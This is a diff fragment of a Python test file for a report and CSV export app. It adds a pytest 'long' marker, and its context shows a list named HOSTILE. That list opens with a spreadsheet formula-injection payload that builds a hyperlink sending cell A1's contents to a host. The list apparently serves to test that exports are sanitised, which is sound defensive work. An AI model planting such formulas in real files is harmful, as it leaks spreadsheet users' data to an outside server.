@@ -6,11 +6,15 @@ import csv
 import dataclasses
 import io
 
+import pytest
+
 from spark_app.data import synthetic
 from spark_app.platform import storage
 from spark_app.zones import report_data
 from tests.reliability.conftest import Place
 from tests.report.test_page import Page
+
+pytestmark = pytest.mark.long
 
 HOSTILE = [
     "=HYPERLINK(\"http://127.0.0.1/?\"&A1,\"x\")",
